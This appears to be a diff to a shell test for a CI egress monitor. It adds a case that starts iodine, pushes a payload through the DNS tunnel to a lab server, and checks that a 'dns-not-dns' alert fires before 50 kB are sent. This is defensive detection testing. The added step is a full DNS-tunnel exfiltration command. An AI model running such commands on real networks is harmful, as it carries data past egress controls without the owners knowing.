@@ -2,7 +2,8 @@
 # SPDX-License-Identifier: BSD-2-Clause
 #
 # tunnel.sh: a step of a CI job carries data out in the names that it asks its resolver for, by iodine and
-# by dns2tcp. The shipped policy must tell before 50 kB were sent.
+# by dns2tcp, and by iodine in what is no DNS at its server's port. The shipped policy must tell before 50 kB
+# were sent.
 #
 #	tests/live/tunnel.sh [BUILD]
 
@@ -54,14 +55,14 @@ step() { # COMMAND
 	LAB_PIDS+=($!)
 }
 
-alert_of() { # STEP
-	jq -nc --arg step "$1-$$" 'first(inputs | select(.type == "alert" and .rule == "dns-tunnel" and .ci.step == $step))' \
-		"$LAB_ALERTS"
+alert_of() { # STEP [RULE]
+	jq -nc --arg step "$1-$$" --arg rule "${2:-dns-tunnel}" \
+		'first(inputs | select(.type == "alert" and .rule == $rule and .ci.step == $step))' "$LAB_ALERTS"
 }
 
 # shellcheck disable=SC2317 # wait_for calls it
-alerted() { # STEP
-	[ -n "$(alert_of "$1")" ]
+alerted() { # STEP [RULE]
+	[ -n "$(alert_of "$@")" ]
 }
 
 # What all of the step has sent, by the ledger.
@@ -98,6 +99,26 @@ iodine_case() {
 	check iodine iodine.example iodine
 }
 
+# Its default: names only until it has found its server, then datagrams straight there.
+iodine_raw_case() {
+	local a
+
+	[ -c /dev/net/tun ] || return
+	step iodine-raw "iodine -f -P secret -d dns1 $DNSMASQ iodine.example & until ip -o addr show dns1 | grep -q 10.99.0; do sleep 0.1; done; $B/lab/send --way tcp-write --to 10.99.0.1:7000 --bytes $PAYLOAD; sleep 20; kill \$!"
+	wait_for 60 alerted iodine-raw dns-not-dns
+	a=$(alert_of iodine-raw dns-not-dns)
+	if [ -z "$a" ]; then
+		not_ok "iodine-raw: alert dns-not-dns" "none after $(sent_by iodine-raw) bytes; $(tail -n 1 "$LAB_DIR/iodine-raw.out")"
+		return
+	fi
+	echo "# iodine-raw: told after $(jq .bytes.sent <<<"$a") bytes sent to its server, as $(jq .dns.malformed <<<"$a") messages; $(sent_by iodine-raw) when this test had read it"
+	is "iodine-raw: told before $MOST bytes were sent" "$(jq ".bytes.sent > 0 and .bytes.sent < $MOST" <<<"$a")" true
+	is "iodine-raw: whose server" "$(jq -r '"\(.dns.foreign) \(.endpoint.ip) \(.endpoint.port)"' <<<"$a")" "true $IODINED 53"
+	is "iodine-raw: the job" "$(jq -r '.ci.repository + " " + .ci.job' <<<"$a")" "o/r j"
+	is "iodine-raw: who" "$(jq -r .process.name <<<"$a")" iodine
+	is "iodine-raw: nothing else is called no DNS" "$(jq -rs 'map(select(.rule == "dns-not-dns") | .ci.step) | unique | join(" ")' "$LAB_ALERTS")" "iodine-raw-$$"
+}
+
 dns2tcp_case() {
 	cat >"$LAB_DIR/dns2tcpd.conf" <<-END
 		listen = $DNS2TCPD
@@ -122,5 +143,6 @@ start_outflowd "$LAB_CONFIG"
 servers
 iodine_case
 dns2tcp_case
+iodine_raw_case
 stop_outflowd
 lab_end
